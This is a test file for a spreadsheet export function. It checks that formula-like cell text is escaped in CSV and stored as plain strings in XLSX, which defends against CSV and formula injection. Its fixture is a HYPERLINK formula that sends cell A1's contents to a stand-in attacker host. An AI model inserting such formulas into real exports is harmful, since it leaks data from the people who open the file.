import ExcelJS from 'exceljs';
import { unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { writeTableFile } from '../../../../src/server/imports/write-table-file';

const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Buka")';

describe('writeTableFile', () => {
  it('neutralises formula-like text in CSV', async () => {
    const csv = (await writeTableFile(['alias', 'nama'], [[hyperlink, '@SUM(1)']], 'csv', 'x')).toString(
      'utf8',
    );
    expect(csv).toBe(
      `\uFEFFalias,nama\r\n"'=HYPERLINK(""http://evil.example/?x=""&A1,""Buka"")",'@SUM(1)\r\n`,
    );
  });

  it('writes formula-like text in XLSX as a string cell, never as a formula', async () => {
    const bytes = await writeTableFile(['alias'], [[hyperlink], ['+1'], ['-2']], 'xlsx', 'Data');
    const sheetXml = new TextDecoder().decode(unzipSync(bytes)['xl/worksheets/sheet1.xml']);
    expect(sheetXml).not.toContain('<f>');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    expect(sheet?.getCell('A2').type).toBe(ExcelJS.ValueType.String);
    expect(sheet?.getCell('A2').value).toBe(hyperlink);
    expect(sheet?.getCell('A4').value).toBe('-2');
  });
});
